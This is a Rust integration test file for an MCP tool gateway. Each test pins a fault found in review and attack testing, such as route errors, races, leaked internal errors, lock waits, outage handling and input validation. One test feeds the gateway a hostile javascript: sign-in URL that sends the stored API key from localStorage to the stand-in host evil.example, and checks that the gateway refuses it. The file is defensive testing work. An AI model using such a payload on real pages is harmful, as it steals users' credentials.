//! The faults a review and an attack found (issue 8), each pinned by a test that failed
//! before its fix. They speak HTTP, or SQL straight to the SQLite file where a fault
//! needs a stored value no API would write.

use crate::fixture;
use crate::helpers::{TestApp, eventually, mcp_example, mcp_example_at, on_postgres, spawn_app, spawn_app_with};
use patchbay_wire::{Agent, ErrorBody, Tool};
use serde_json::{Value, json};
use std::time::Duration;

/// A second connection to the gateway's database, as an operator's tool would open it.
async fn raw_db(app: &TestApp) -> sqlx::AnyPool {
    let url = app.config.database_url.clone().unwrap_or_else(|| patchbay_gateway::db::sqlite_url(&app.config.data_dir));
    sqlx::any::install_default_drivers();
    sqlx::AnyPool::connect(&url).await.expect("open the database")
}

async fn insert_active_tool(db: &sqlx::AnyPool, id: &str) {
    sqlx::query(
        "INSERT INTO tools (id, name, description, url, status, auth_mode, user_id, created_at, updated_at) \
         VALUES ($1, $1, 'Use it when the user asks.', 'https://mcp.example.com/mcp', 'Active', 'none', 'local', \
         '2026-11-26T01:00:00Z', '2026-11-26T01:00:00Z')",
    )
    .bind(id)
    .execute(db)
    .await
    .expect("insert tool");
}

// Fault 1, and the 405s and unknown routes of fault 13.
#[tokio::test]
async fn api_paths_answer_json_never_the_spa_page() {
    let dist = tempfile::tempdir().unwrap();
    std::fs::write(dist.path().join("index.html"), "<!doctype html><title>Patchbay</title>").unwrap();
    let dir = dist.path().to_path_buf();
    let app = spawn_app_with(move |c| c.static_dir = Some(dir)).await;
    for path in ["/v1/typo", "/v2/flow/nothing", "/oauth/nope", "/v1", "/healthz/x"] {
        let res = app.get(path).await;
        assert_eq!(res.status(), 404, "{path}");
        let body: ErrorBody = res.json().await.unwrap_or_else(|e| panic!("{path} answered no JSON: {e}"));
        assert!(body.detail.contains("check the path"), "{path}: {}", body.detail);
    }
    let page = app.get("/agents/some-id").await;
    assert_eq!(page.status(), 200, "client-side routes still get the page");
    let wrong = app.http.put(app.url("/v1/flow/tools")).send().await.unwrap();
    assert_eq!(wrong.status(), 405);
    assert!(wrong.json::<ErrorBody>().await.unwrap().detail.contains("PUT is not allowed"));
    let bare = spawn_app().await;
    let res = bare.get("/nothing/here").await;
    assert_eq!(res.status(), 404);
    assert!(res.json::<ErrorBody>().await.is_ok(), "without --static-dir too");
}

// Faults 2 and 12: a delete racing an agent that links the tool.
#[tokio::test]
async fn deleting_a_tool_never_silently_unlinks_it_from_an_agent_created_at_the_same_time() {
    let app = spawn_app().await;
    let db = raw_db(&app).await;
    for round in 0..40 {
        let id = format!("race-{round}");
        insert_active_tool(&db, &id).await;
        let body =
            json!({"name": format!("Agent {round}"), "instructions": "Help.", "model_id": "m", "tool_ids": [id]});
        let (deleted, created) = tokio::join!(
            app.http.delete(app.url(&format!("/v1/flow/tools/{id}"))).send(),
            app.http.post(app.url("/v2/flow/agents/create")).json(&body).send(),
        );
        let (deleted, created) = (deleted.unwrap(), created.unwrap());
        match (deleted.status().as_u16(), created.status().as_u16()) {
            (200, 400) => {}
            (409, 200) => {
                let agent: Agent = created.json().await.unwrap();
                assert_eq!(agent.tools.len(), 1, "round {round}: the agent keeps its tool");
            }
            (d, c) => panic!("round {round}: delete answered {d} and create {c}; one of them must lose"),
        }
    }
}

// Fault 3: an internal fault while finishing sign-in is logged, never shown.
#[tokio::test]
async fn an_internal_fault_during_sign_in_reaches_no_person() {
    let app = spawn_app().await;
    let provider = fixture::start(3600, true).await;
    let res = app.create(&provider.mcp_url(), json!({}), "").await;
    let tool: Tool = res.json().await.unwrap();
    // The sealed client no longer opens (as after a key mix-up): a fault inside the gateway.
    sqlx::query("UPDATE tools SET client_id_enc = 'not-sealed-with-this-key' WHERE id = $1")
        .bind(&tool.id)
        .execute(&raw_db(&app).await)
        .await
        .unwrap();
    let back = app.authorize(tool.config.authorization_url.as_deref().unwrap()).await;
    let location = back.headers().get("location").map(|l| l.to_str().unwrap().to_string()).unwrap_or_default();
    let page = back.text().await.unwrap();
    let after = app.tool(&tool.id).await;
    let shown = format!("{location} {page} {}", after["status_reason"]);
    for internal in ["does not open", "sealed", "OAuth client", "Internal", "internal error:"] {
        assert!(!shown.contains(internal), "{internal:?} reached a person: {shown}");
    }
    assert!(page.contains("internal error") || location.contains("internal+error"), "{shown}");
    assert_eq!(after["status"], "Pending_authorization", "the person's sign-in is not lost to the gateway's fault");
}

// Fault 4: a stored value the gateway does not know is an error, never a default.
#[tokio::test]
async fn a_stored_value_the_gateway_does_not_know_answers_500_not_a_guess() {
    let app = spawn_app().await;
    let db = raw_db(&app).await;
    insert_active_tool(&db, "odd").await;
    sqlx::query("UPDATE tools SET status = 'Sideways' WHERE id = 'odd'").execute(&db).await.unwrap();
    let res = app.get("/v1/flow/tools/odd").await;
    assert_eq!(res.status(), 500);
    let body: ErrorBody = res.json().await.unwrap();
    assert!(!body.detail.contains("Sideways") && body.detail.contains("internal error"), "{}", body.detail);
}

// Fault 8: reads compute what they show; they never wait on the write lock.
#[tokio::test]
async fn reads_answer_while_another_connection_holds_the_write_lock() {
    let app = spawn_app().await;
    let db = raw_db(&app).await;
    insert_active_tool(&db, "steady").await;
    let mut writer = db.acquire().await.unwrap();
    // Another writer holds the write lock: reads must not queue behind it.
    let lock = if on_postgres() { "BEGIN; LOCK TABLE tools IN EXCLUSIVE MODE" } else { "BEGIN IMMEDIATE" };
    sqlx::raw_sql(lock).execute(&mut *writer).await.unwrap();
    let quick = reqwest::Client::builder().timeout(Duration::from_secs(2)).build().unwrap();
    for path in ["/v1/flow/tools", "/v1/flow/tools/steady", "/v2/flow/agents/", "/v1/flow/tools/steady/agents"] {
        let res = quick.get(app.url(path)).send().await.unwrap_or_else(|e| panic!("{path} waited on the lock: {e}"));
        assert_eq!(res.status(), 200, "{path}");
    }
    sqlx::query("ROLLBACK").execute(&mut *writer).await.unwrap();
}

// Fault 9: metadata naming a `javascript:` sign-in page is refused at create.
#[tokio::test]
async fn a_server_advertising_a_script_url_for_sign_in_is_refused() {
    let app = spawn_app().await;
    let provider = fixture::start(3600, true).await;
    for hostile in ["javascript:fetch('//evil.example/'+localStorage.getItem('patchbay.apiKey'))", "data:text/html,x"] {
        provider.advertise_authorize(hostile);
        let res = app.create(&provider.mcp_url(), json!({}), "").await;
        assert_eq!(res.status(), 400, "{hostile}");
        let body: ErrorBody = res.json().await.unwrap();
        assert_eq!(body.field.as_deref(), Some("config.URL"));
        assert!(body.detail.contains("unsafe") && body.detail.contains("https://"), "{}", body.detail);
    }
    assert_eq!(app.all_tools().await["total"], 0, "nothing was stored");
}

// Fault 10: a short outage warns and passes; it does not fail the tool for good.
#[tokio::test]
async fn a_short_outage_keeps_the_tool_active_with_a_warning_until_the_server_is_back() {
    let app = spawn_app_with(|c| {
        c.health_interval = Duration::from_millis(300);
        c.unreachable_grace = Duration::from_secs(60);
    })
    .await;
    let server = mcp_example(false).await;
    let (port, auth_port) = (server.port, server.auth_port);
    let res = app.create(&server.url(), json!({}), "").await;
    let tool: Tool = res.json().await.unwrap();
    drop(server);
    let id = tool.id.clone();
    eventually("the check warns", 10, || async { app.tool(&id).await["status_reason"].is_string() }).await;
    let warned = app.tool(&id).await;
    assert_eq!(warned["status"], "Active");
    assert!(warned["status_reason"].as_str().unwrap().contains("could not be reached"), "{warned}");
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(app.tool(&id).await["status"], "Active", "several failed checks within the grace period");
    let _back = mcp_example_at(false, port, auth_port).await;
    eventually("the warning clears", 15, || async { app.tool(&id).await["status_reason"].is_null() }).await;
    assert_eq!(app.tool(&id).await["status"], "Active");
}

// Fault 11: another secret key is refused at start, with a sentence.
#[tokio::test]
async fn a_gateway_started_with_another_secret_key_refuses_to_start() {
    let data = tempfile::tempdir().unwrap();
    let gateway = env!("CARGO_BIN_EXE_patchbay-gateway");
    let database = crate::helpers::fresh_database().await;
    let start = |key: Option<&str>| {
        let mut cmd = tokio::process::Command::new(gateway);
        cmd.args(["--listen", "127.0.0.1:0", "--data-dir"]).arg(data.path()).kill_on_drop(true);
        if let Some(url) = &database {
            cmd.arg("--database-url").arg(url);
        }
        cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
        match key {
            Some(k) => cmd.env("PATCHBAY_SECRET_KEY", k),
            None => cmd.env_remove("PATCHBAY_SECRET_KEY"),
        };
        cmd.spawn().expect("start the gateway")
    };
    let mut first = start(None);
    // Serving means the database is migrated and its key check stored.
    let out = first.stdout.take().unwrap();
    let mut lines = tokio::io::AsyncBufReadExt::lines(tokio::io::BufReader::new(out));
    let ready = tokio::time::timeout(Duration::from_secs(30), async {
        while let Ok(Some(line)) = lines.next_line().await {
            if line.starts_with("listening on") {
                return;
            }
        }
    });
    ready.await.expect("the first start serves");
    drop(first);
    let other = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=";
    let second = start(Some(other)).wait_with_output();
    let out = tokio::time::timeout(Duration::from_secs(20), second)
        .await
        .expect("a gateway with the wrong key must stop, not serve")
        .unwrap();
    assert!(!out.status.success());
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("secret key does not open this database"), "{said}");
}

// Fault 13: the smaller ones.
#[tokio::test]
async fn smaller_refusals_name_their_field_and_stay_short() {
    let app = spawn_app().await;
    let name_only_invisible = app
        .http
        .post(app.url("/v1/flow/tools"))
        .json(&json!({"type": "mcp_connector", "name": "\u{200b}\u{2060}", "description": "Use it when asked.",
                      "config": {"URL": "http://127.0.0.1:9/mcp"}}))
        .send()
        .await
        .unwrap();
    assert_eq!(name_only_invisible.status(), 400);
    assert_eq!(name_only_invisible.json::<ErrorBody>().await.unwrap().field.as_deref(), Some("name"));

    let not_loopback = app.create("http://127.evil.example/mcp", json!({}), "").await;
    let body: ErrorBody = not_loopback.json().await.unwrap();
    assert!(body.detail.contains("https://"), "{}", body.detail);

    let typo = app
        .http
        .post(app.url("/v2/flow/agents/create"))
        .json(&json!({"name": "A", "instructions": "Help.", "model_id": "m", "temprature": 0.5}))
        .send()
        .await
        .unwrap();
    assert_eq!(typo.status(), 400, "an unknown field is refused, not ignored");
    assert!(typo.json::<ErrorBody>().await.unwrap().detail.contains("temprature"));

    let flood: Vec<String> = (0..3000).map(|i| format!("{}-{i}", "x".repeat(120))).collect();
    let res = app
        .http
        .post(app.url("/v2/flow/agents/create"))
        .json(&json!({"name": "A", "instructions": "Help.", "model_id": "m", "tool_ids": flood}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 400);
    let text = res.text().await.unwrap();
    assert!(text.len() < 4096, "a refusal echoes {} bytes", text.len());
    let _: Value = serde_json::from_str(&text).unwrap();
}

/// Log lines, kept in memory for a test to count.
#[derive(Clone, Default)]
struct Captured(std::sync::Arc<std::sync::Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

// Fault 6: one 500, one error line in the log (the error type's, not also the trace layer's).
#[tokio::test(flavor = "current_thread")]
async fn each_internal_error_is_logged_once() {
    let lines = Captured::default();
    let sink = lines.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_writer(move || sink.clone())
        .with_ansi(false)
        .with_max_level(tracing::Level::ERROR)
        .finish();
    let _guard = tracing::subscriber::set_default(subscriber);
    let app = spawn_app().await;
    // A database that lost a table: every agents read fails inside the gateway.
    sqlx::query("DROP TABLE agent_tools").execute(&raw_db(&app).await).await.unwrap();
    assert_eq!(app.get("/v2/flow/agents/").await.status(), 500);
    tokio::time::sleep(Duration::from_millis(200)).await;
    let text = String::from_utf8(lines.0.lock().unwrap().clone()).unwrap();
    assert_eq!(text.lines().filter(|l| l.contains("ERROR")).count(), 1, "{text}");
    assert!(text.contains("agent_tools"), "the log names the fault: {text}");
}

// Found by the browser tests: a revalidated page (304) must keep the page's policy, or
// the browser stores the strict API policy for it and the app cannot start on reload.
#[tokio::test]
async fn a_revalidated_page_keeps_the_page_policy() {
    let dist = tempfile::tempdir().unwrap();
    std::fs::write(dist.path().join("index.html"), "<!doctype html><script type=module>import '/a.js';</script>")
        .unwrap();
    let dir = dist.path().to_path_buf();
    let app = spawn_app_with(move |c| c.static_dir = Some(dir)).await;
    let first = app.get("/index.html").await;
    let policy = first.headers()["content-security-policy"].to_str().unwrap().to_string();
    assert!(policy.contains("script-src 'self'") && policy.contains("'sha256-"), "{policy}");
    let tag = first.headers()["etag"].to_str().unwrap().to_string();
    let again = app.http.get(app.url("/index.html")).header("if-none-match", tag).send().await.unwrap();
    assert_eq!(again.status(), 304);
    assert_eq!(again.headers()["content-security-policy"].to_str().unwrap(), policy);
}
